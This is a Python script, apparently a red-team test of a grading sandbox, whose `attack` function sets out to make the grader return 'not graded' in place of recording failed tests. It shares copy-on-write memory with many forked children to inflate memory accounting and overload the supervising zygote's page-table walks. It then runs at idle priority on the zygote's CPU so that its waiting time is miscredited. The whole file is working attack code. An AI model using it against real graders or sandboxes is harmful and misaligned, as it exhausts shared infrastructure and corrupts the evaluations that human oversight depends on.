import mmap
import os
import time

GIB = 1 << 30


def _status_field(name):
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(name):
                return int(line.split()[1])
    return None


def _last_cpu(pid):
    """The CPU process `pid` last ran on (field 39 of /proc/PID/stat)."""
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[36])


def _shared_pages():
    """Private anonymous memory in 4 KiB pages (no huge pages: each page is one step of a page-table
    walk), written once, then shared copy-on-write with as many sleeping children as the process limit
    allows: each child's RssAnon shows it all, so the sum over the worker's processes passes --memory-gib
    many times over while the exact figure (Pss_Anon, shares of one copy) stays under it. The zygote
    then reads every process's smaps_rollup, a walk of all its page tables, on each of its 50 ms looks."""
    region = None
    for size in (2.25, 2.0, 1.75, 1.5, 1.25, 1.0, 0.75, 0.5):
        try:
            region = mmap.mmap(-1, int(size * GIB), flags=mmap.MAP_PRIVATE)
            break
        except (OSError, ValueError):
            continue
    if region is None:
        return None, 0, 0
    try:
        region.madvise(mmap.MADV_NOHUGEPAGE)
    except (OSError, AttributeError, ValueError):
        pass
    chunk = b"\x5a" * (16 << 20)
    for offset in range(0, len(region), len(chunk)):
        region[offset:offset + len(chunk)] = chunk[:len(region) - offset]
    children = 0
    for _ in range(20):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                while True:
                    time.sleep(3600)
            finally:
                os._exit(0)
        children += 1
    return region, len(region), children


def attack(args):
    """bytes_per_element that never returns, run where its waits are credited: before looping, it makes
    the zygote (whose own CPU time staff/sandbox/call_clock.py does not count as the worker's) walk
    gigabytes of page tables every 50 ms, then loops at SCHED_IDLE on the CPU the zygote last ran on
    (following it there), so it runs only while the zygote rests. Each of its waits is the grader's own
    work, credited as a busy machine's; the call reaches 6 x its limit + 10 s of wall time before it is
    charged its limit, and the grade ends "not graded" instead of losing the looping tests."""
    region, size, children = _shared_pages()
    print(f"shared {size / GIB:.2f} GiB with {children} children; RssAnon {_status_field('RssAnon:')} KiB",
          flush=True)
    zygote = _status_field("PPid:")  # in the /proc this process sees (the machine's, or the namespace's)
    try:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    except OSError as error:
        print(f"could not lower its own priority: {error}", flush=True)
    here, said = None, time.monotonic()
    while True:
        if time.monotonic() - said > 2:  # what it sees, in its output: the zygote's CPU, its own run and wait
            said = time.monotonic()
            try:
                with open(f"/proc/{zygote}/stat") as handle:
                    busy = sum(int(v) for v in handle.read().rsplit(")", 1)[1].split()[11:13]) / os.sysconf("SC_CLK_TCK")
                with open("/proc/thread-self/schedstat") as handle:
                    ran, waited = (int(v) / 1e9 for v in handle.read().split()[:2])
                print(f"zygote cpu {busy:.1f} s, on cpu {here}; this thread ran {ran:.1f} s, waited {waited:.1f} s",
                      flush=True)
            except (OSError, ValueError):
                pass
        try:
            cpu = _last_cpu(zygote)
        except (OSError, ValueError, IndexError):
            cpu = None
        if cpu is not None and cpu != here:
            try:
                os.sched_setaffinity(0, {cpu})  # pid 0: the calling thread, as the filter allows
                here = cpu
            except OSError:
                pass
        for _ in range(3000):
            pass
